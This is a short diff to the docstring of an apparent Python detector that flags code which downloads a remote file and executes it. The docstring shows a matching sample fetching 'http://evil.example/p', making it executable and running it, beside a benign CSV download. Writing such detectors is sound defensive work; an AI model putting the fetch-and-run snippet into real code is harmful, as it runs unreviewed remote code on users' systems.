@@ -1,6 +1,18 @@
 """A file is fetched from another machine and started, or a command does both.
 
 What runs is not in the package, so nobody could look at it before.
+
+Found in `app.py`:
+
+    import os, urllib.request
+    urllib.request.urlretrieve('http://evil.example/p', '/tmp/p')
+    os.chmod('/tmp/p', 0o755)
+    os.system('/tmp/p')
+
+Not found in `app.py`:
+
+    import urllib.request
+    urllib.request.urlretrieve('https://example.org/readings.csv', '/tmp/readings.csv')
 """
 
 import ast
